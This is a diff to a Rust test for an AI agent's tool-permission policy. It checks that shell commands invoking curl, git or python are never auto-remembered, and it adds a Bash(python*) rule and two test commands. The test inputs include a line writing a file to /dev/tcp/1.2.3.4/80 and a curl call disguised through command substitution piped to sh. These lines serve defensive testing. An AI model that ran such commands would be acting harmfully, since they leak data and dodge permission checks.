@@ -381,7 +381,7 @@ fn a_load_error_carries_the_key_path_and_the_suggestion() {
 #[test]
 fn never_remember_names_tools_and_the_programs_a_shell_command_runs() {
     let policy = Policy::from_json_str(
-        r#"{"neverRemember": ["WebFetch", "mcp__github__*", "Bash(curl)", "Bash(git)"],
+        r#"{"neverRemember": ["WebFetch", "mcp__github__*", "Bash(curl)", "Bash(git)", "Bash(python*)"],
             "commands": {"tools": {"Bash": "command"}, "rules": []}}"#,
     )
     .unwrap();
@@ -402,6 +402,8 @@ fn never_remember_names_tools_and_the_programs_a_shell_command_runs() {
         "echo $(echo curl) | sh",
         "ls && git push",
         "cat x > /dev/tcp/1.2.3.4/80",
+        "./x.sh",
+        "python3.12 x.py",
     ] {
         let bash = call("Bash", serde_json::json!({ "command": command }));
         assert!(policy.never_remembers(&bash), "{command}");
